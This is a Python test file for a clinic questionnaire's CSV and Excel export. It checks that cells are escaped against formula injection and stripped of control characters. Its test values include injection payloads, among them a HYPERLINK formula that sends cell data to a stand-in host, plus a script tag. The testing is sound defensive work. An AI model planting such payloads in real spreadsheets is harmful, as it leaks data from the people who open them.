"""Files for spreadsheets: opened anywhere they show what was said, and carry nothing out."""

import csv
import io
from collections import Counter
from datetime import datetime

import pytest
from openpyxl import load_workbook

from pre_visit.snapshot import document_of
from questionnaire.distance import Distance
from staff.export.cells import number_cell, text_cell
from staff.export.csv_file import csv_of
from staff.export.xlsx_file import xlsx_of
from tests.factories import Chance, as_given, healthy_runner, random_person
from tests.staff.export.submissions import NOON, a_record, a_submission, a_submission_with
from tests.tables import every_row


@pytest.fixture(scope="module")
def documents(questionnaire):
    return {questionnaire.version: document_of(questionnaire)}


def text_of(submissions, documents):
    return "".join(csv_of(submissions, documents)).encode().decode("utf-8-sig")


def rows_of(submissions, documents):
    return list(csv.DictReader(io.StringIO(text_of(submissions, documents), newline="")))


def row_of(one, documents):
    (row,) = rows_of([one], documents)
    return row


@every_row(
    ("typed", "cell"),
    [
        ("", ""),
        ("Run again", "Run again"),
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'=1+1"),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        ("\n=1+1", "'=1+1"),
        ("\u00a0=1+1", "'=1+1"),
        ("\x00=1+1", "'=1+1"),
        ("\u202e=1+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("KL;=1+1", "KL;'=1+1"),
        ("KL, =1+1", "KL, '=1+1"),
        ('KL";"=1+1', 'KL";"\'=1+1'),
        ("KL|-1;+1", "KL|'-1;'+1"),
        ("KL\t=1+1", "KL =1+1"),
        ("KL\n@SUM(A1)", "KL\n'@SUM(A1)"),
        ("00417", "00417"),
        ("3-4", "3-4"),
        ("a = b", "a = b"),
        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
        ("a\x1b[31mb\x7f\x85", "a[31mb"),
        ("a\u202eb\u2066c\u200fd", "abcd"),
        ("half \ud83d a sign", "half \ufffd a sign"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ('a "b", c; d', 'a "b", c; d'),
        ("é 漢 👟", "é 漢 👟"),
    ],
)
def test_a_text_stays_a_text(typed, cell):
    assert cell == text_cell(typed)


@every_row(
    ("number", "cell"),
    [(0, "0"), (7, "7"), (7.0, "7"), (-1, "-1"), (0.5, "0.5"), (11.7482112,) * 2],
)
def test_a_number_stays_a_number(number, cell):
    assert str(cell) == number_cell(number)


def test_it_begins_with_a_mark_that_says_utf_8(documents):
    assert "".join(csv_of([], documents)).encode().startswith(b"\xef\xbb\xbfvisit,reference,")


def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, documents):
    told = {"own_question": "Can I run?", "goal_date": "2027-05-16", "pain_average": 3}
    told["activities"] = [["Lifting my son", 6], ["Sitting", None]]
    answers = healthy_runner(**told, rf_general=["weight_loss"], longest_prev30_km=None)
    one = a_submission(questionnaire, rulebook, answers)
    row = row_of(one, documents)

    assert row["reference"] == "KL-204"
    assert row["visit_at"] == "2026-11-24 09:30"
    assert (row["received_utc"], row["sent_utc"]) == ("2026-11-23 12:00", "2026-11-23 12:00")
    assert row["is_complete"] == "yes"
    assert row["version_questions"] == questionnaire.version
    assert row["version_rules"] == rulebook.version
    assert row["next_step"] == "see_doctor"
    assert row["next_step_words"] == rulebook.advice.next_steps["see_doctor"].title
    assert row["signs"] == one.record["signs"][0]["id"]
    assert row["signs_words"] == one.record["signs"][0]["because"]
    assert (row["rf_general"], row["rf_general_words"]) == (
        "weight_loss",
        "I am losing weight and do not know why",
    )
    assert (row["age_years"], row["age_years_words"]) == ("35", "35 years")
    assert (row["longest_prev30_km"], row["longest_prev30_km_words"]) == ("", "not answered")
    assert (row["preg_warning"], row["preg_warning_words"]) == ("", "")
    assert (row["own_question"], row["pain_average"]) == ("Can I run?", "3")
    assert (row["goal_date"], row["goal_date_words"]) == ("2027-05-16", "16 May 2027")
    assert row["activities"] == "Lifting my son: 6; Sitting"
    assert row["activities_words"] == "Lifting my son: 6 out of 10; Sitting"


def test_causes_are_told_with_their_strength(questionnaire, rulebook, documents):
    one = a_submission(questionnaire, rulebook, healthy_runner(longest_recent_km=40))
    row, shown = row_of(one, documents), [c for c in one.record["causes"] if c["strength"]]

    assert shown
    assert [cause["id"] for cause in shown] == row["causes"].split("; ")
    assert f"{shown[0]['title']} ({shown[0]['strength']})" in row["causes_words"]


def test_several_ticks_stand_in_one_cell(questionnaire, rulebook, documents):
    answers = healthy_runner(pain_location=["between_blades", "low_back"])
    row = row_of(a_submission(questionnaire, rulebook, answers), documents)

    assert row["pain_location"] == "between_blades; low_back"
    assert row["pain_location_words"] == "Between my shoulder blades; Low back"


def test_a_distance_is_in_km_beside_what_was_typed(questionnaire, rulebook, documents):
    given = as_given(questionnaire, healthy_runner()) | {"longest_recent_km": Distance(7.3, "mi")}
    row = row_of(a_submission_with(a_record(questionnaire, rulebook, given)), documents)

    told = (row["longest_recent_km"], row["longest_recent_km_words"])
    assert told == ("11.7482112", "7.3 miles")


def test_a_stop_before_anything_was_sent_is_told_as_such(questionnaire, rulebook, documents):
    one = a_submission(questionnaire, rulebook, {"rf_now": ["fainted_now"]}, submitted=None)
    row = row_of(one, documents)

    assert (row["is_complete"], row["sent_utc"], row["causes"]) == ("no", "", "")
    assert row["next_step"] == "emergency"


def test_what_cannot_be_read_has_a_row_of_its_own(documents):
    row = row_of(a_submission_with(None, reference=None), documents)

    assert {value for name, value in row.items() if value} == {
        *("k4m7x2p9qt", "2026-11-24 09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
    }


def test_every_version_has_the_same_columns_and_old_questions_come_last(questionnaire, documents):
    old = {"sections": [{"questions": [{"id": "age_years"}, {"id": "asked_long_ago"}]}]}
    header = next(csv_of([], documents | {"0.0": old})).strip().split(",")

    assert header[-2:] == ["asked_long_ago", "asked_long_ago_words"]
    assert set(Counter(header).values()) == {1}
    assert header[:-2] == next(csv_of([], documents)).strip().split(",")


@pytest.mark.slow
def test_every_row_of_many_people_has_every_column(questionnaire, rulebook, documents):
    people = (random_person(questionnaire, Chance(number), 0.9) for number in range(40))
    submissions = [a_submission(questionnaire, rulebook, person) for person in people]
    sheet = io.StringIO(text_of(submissions, documents), newline="")
    lengths = {len(row) for row in csv.reader(sheet)}

    assert len(lengths) == 1
    assert csv.Sniffer().sniff(text_of(submissions, documents)).delimiter == ","


NASTY = '=HYPERLINK("http://a.example?"&A1)\r\n<script>\u202e\x00", "; -1'


def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
    tame = a_submission(questionnaire, rulebook, healthy_runner(own_question="Why?"))
    written = healthy_runner(own_question=NASTY, activities=[[NASTY, 0]])
    nasty = a_submission(questionnaire, rulebook, written, reference=NASTY)
    expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; \'-1'
    differs = dict(row_of(nasty, documents).items() - row_of(tame, documents).items())

    assert differs == {
        "reference": expected,
        "own_question": expected,
        "own_question_words": expected,
        "activities": f"{expected}: 0",
        "activities_words": f"{expected}: 0 out of 10",
    }


def book_of(submissions, documents):
    """The rows of a workbook as somebody else's program reads them: a cell by its column."""
    heads, *rows = load_workbook(io.BytesIO(xlsx_of(submissions, documents, NOON))).active.rows
    names = [cell.value for cell in heads]
    return [dict(zip(names, row, strict=True)) for row in rows]


@every_row("reference", ["00417", "1E5", "3-4", "=1+1", "-2", "@SUM(A1)", "TRUE"])
def test_a_reference_in_a_workbook_is_a_text_letter_for_letter(
    questionnaire, rulebook, documents, reference
):
    one = a_submission(questionnaire, rulebook, healthy_runner(), reference=reference)
    (row,) = book_of([one], documents)
    cell = row["reference"]

    assert (cell.value, cell.data_type, cell.number_format) == (reference, "s", "@")


def test_in_a_workbook_days_are_days_and_numbers_are_numbers(questionnaire, rulebook, documents):
    answers = healthy_runner(goal_date="2027-05-16", pain_average=3, longest_recent_km=16.5)
    one = a_submission(questionnaire, rulebook, answers, visit_at="2026-11-24")
    (row,) = book_of([one], documents)

    assert (row["goal_date"].value, row["goal_date"].is_date) == (datetime(2027, 5, 16), True)
    assert (row["visit_at"].value, row["visit_at"].is_date) == (datetime(2026, 11, 24), True)
    assert (row["sent_utc"].value, row["sent_utc"].is_date) == (datetime(2026, 11, 23, 12), True)
    assert (row["pain_average"].value, row["longest_recent_km"].value) == (3, 16.5)
    assert row["submission"].data_type == "n"


def test_a_workbook_has_the_columns_and_the_words_of_the_csv(questionnaire, rulebook, documents):
    """But for the sign that keeps a formula from running, which only CSV needs."""
    people = (random_person(questionnaire, Chance(number), 0.9) for number in range(10))
    submissions = [a_submission(questionnaire, rulebook, one, reference="=1") for one in people]
    book, rows = book_of(submissions, documents), rows_of(submissions, documents)

    assert [list(row) for row in book] == [list(row) for row in rows]
    for cells, texts in zip(book, rows, strict=True):
        for name, text in texts.items():
            is_day = cells[name].is_date
            shown = f"{cells[name].value:%Y-%m-%d %H:%M}" if is_day else cells[name].value
            if shown is None or isinstance(shown, str):
                assert (shown or "").removesuffix(" 00:00") == text.lstrip("'"), name
            else:
                assert number_cell(shown) == text, name


def test_a_workbook_takes_old_days_and_long_words(questionnaire, rulebook, documents):
    answers = healthy_runner(goal_date="1066-10-14", own_question="a" * 40_000)
    (row,) = book_of([a_submission(questionnaire, rulebook, answers)], documents)

    assert row["goal_date"].value == "1066-10-14"
    assert row["own_question"].value == "a" * 32_767
